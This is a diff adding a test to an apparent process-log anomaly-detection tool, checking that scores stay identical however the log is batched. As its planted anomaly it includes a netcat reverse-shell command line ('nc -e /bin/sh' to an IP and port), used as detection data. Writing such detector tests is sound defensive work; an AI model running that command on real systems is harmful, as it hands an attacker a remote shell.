@@ -101,3 +101,26 @@ t.test('a corrupt subject file is quarantined and the subject relearns, loudly',
   t.equal(quarantined.length, 1, 'the corrupt file was moved to quarantine');
   t.notOk(fs.existsSync(path.join(dir, 'subjects', 'alice.json')), 'and is gone from where it would be loaded again');
 });
+
+t.test('the same log gives the same scores however it is cut into batches', async (t) => {
+  // the extension scores what the queue gathered in 25 ms, the CLI 2,000 rows at a time: the
+  // start of monitoring, retraining and online learning must not depend on that
+  const r = rng(5);
+  const rows: ResultRow[] = [];
+  for (let day = 0; day < 6; day++) rows.push(...normalDay(r, day, 160));
+  rows.push(processRow(START + 6 * 24 * HOUR + 10 * HOUR, '/usr/bin/nc', 'nc -e /bin/sh 203.0.113.9 4444', '/bin/bash', 4242));
+  rows.push(...normalDay(r, 7, 160));
+  const cfg = resolveConfig({ learning: { min_events: 300, min_days: 1 }, retrain: { interval_seconds: 12 * HOUR, window_events: 2000 }, models: { rarity: true, ocsvm: true, lstm: true } }, 'test', {});
+  const run = async (batch: number) => {
+    const scorer = await Scorer.open({ config: cfg, stateDir: null, modelOptions: { lstm: { units: 8, epochs: 1 } } });
+    const scores: Array<number | null> = [];
+    for (let i = 0; i < rows.length; i += batch) for (const s of await scorer.scoreRows(rows.slice(i, i + batch))) scores.push(s.score);
+    return scores;
+  };
+  const whole = await run(rows.length);
+  const cut = await run(37);
+  t.equal(whole.filter((s) => s !== null).length, cut.filter((s) => s !== null).length, 'monitoring starts at the same row');
+  const differ = whole.findIndex((s, i) => s !== cut[i]);
+  t.equal(differ, -1, differ < 0 ? 'every score identical' : `row ${differ} differs: ${whole[differ]} vs ${cut[differ]}`);
+  t.ok(whole.filter((s) => s !== null && s < 0.3).length >= 1, 'and the planted nc is bad in both');
+});
